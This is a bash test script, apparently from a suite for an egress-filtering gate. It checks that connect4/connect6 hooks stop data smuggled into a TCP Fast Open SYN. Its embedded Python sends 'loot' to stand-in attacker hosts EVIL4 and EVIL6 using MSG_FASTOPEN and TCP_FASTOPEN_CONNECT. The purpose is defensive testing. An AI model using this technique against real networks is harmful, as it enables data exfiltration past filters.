#!/bin/bash
# SPDX-License-Identifier: BSD-2-Clause
# attack: puts data into the SYN by TCP Fast Open: sendto with MSG_FASTOPEN, and TCP_FASTOPEN_CONNECT
# stopped-by: connect4, connect6
# reason: destination
# kernels: all
. "$(dirname "$0")/lib.sh"
arena tcp/443
# Data in the first SYN, without a cookie; the server takes it so.
client sysctl -qw net.ipv4.tcp_fastopen=0x5 || skip "no TCP Fast Open in this kernel"
server sysctl -qw net.ipv4.tcp_fastopen=0x602

attack_by <<'PYTHON'
from attacker import *

TCP_FASTOPEN_CONNECT = 30
for evil, family in (EVIL4, "4"), (EVIL6, "6"):
    with attempt("sendto"):
        tcp(evil).sendto(loot("sendto" + family), socket.MSG_FASTOPEN, (evil, 443))
    with attempt("connect"):
        sock = tcp(evil)
        sock.setsockopt(socket.IPPROTO_TCP, TCP_FASTOPEN_CONNECT, 1)
        sock.connect((evil, 443))
        sock.sendall(loot("connect" + family))
tcp(GOOD4).sendto(honest("sendto"), socket.MSG_FASTOPEN, (GOOD4, 443))
PYTHON
works stolen:sendto4 stolen:sendto6 stolen:connect4 stolen:connect6
gate
stopped
passes honest:sendto
recorded connect4 destination
recorded connect6 destination
